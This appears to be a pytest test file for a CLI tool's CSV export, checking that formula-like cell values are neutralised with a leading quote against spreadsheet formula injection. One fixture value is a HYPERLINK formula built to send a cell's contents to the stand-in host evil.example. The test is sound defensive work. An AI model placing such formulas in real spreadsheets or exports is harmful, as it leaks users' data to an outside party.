"""A CSV export opened in a spreadsheet never runs a name as a formula (OWASP's rule: a
cell that starts with =, +, -, @, tab or CR gets a leading quote)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from untoc_workflow.cli import app
from untoc_workflow.reports.exports import spreadsheet_safe

MECHANISM = Path(__file__).parents[1] / "cli" / "mechanism.yaml"
NAMES = {
    "NGA": '=HYPERLINK("http://evil.example/?leak="&A1,"Nigeria")',
    "GHA": "+233 Ghana",
    "DEU": "@SUM(1+1)",
}


@pytest.fixture()
def exported(tmp_path, monkeypatch) -> list[dict[str, str]]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("UNTOC_DATABASE_URL", f"sqlite:///{tmp_path / 'untoc.db'}")
    text = MECHANISM.read_text(encoding="utf-8")
    for code, old in (("NGA", "Nigeria"), ("GHA", "Ghana"), ("DEU", "Germany")):
        quoted = NAMES[code].replace("'", "''")
        text = text.replace(f"code: {code}, name: {old},", f"code: {code}, name: '{quoted}',")
    (tmp_path / "m.yaml").write_text(text, encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(app, ["import", "m.yaml"], catch_exceptions=False).exit_code == 0
    out = tmp_path / "reviews.csv"
    result = runner.invoke(
        app, ["export-csv", "--as-of", "2021-06-01", "--out", str(out)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))


def test_a_name_that_is_a_formula_is_written_as_text(exported):
    names = {row["reviewed"]: row["reviewed_name"] for row in exported}
    assert names["NGA"] == "'" + NAMES["NGA"]
    assert names["GHA"] == "'" + NAMES["GHA"]


def test_no_cell_read_back_starts_like_a_formula(exported):
    assert exported
    for row in exported:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            assert not (value.startswith("-") and not value.lstrip("-").isdigit()), value


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+A1", "'-1+A1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Côte d'Ivoire", "Côte d'Ivoire"),
        (-3, -3),
        ("", ""),
    ],
)
def test_the_rule_cell_by_cell(cell, safe):
    assert spreadsheet_safe(cell) == safe
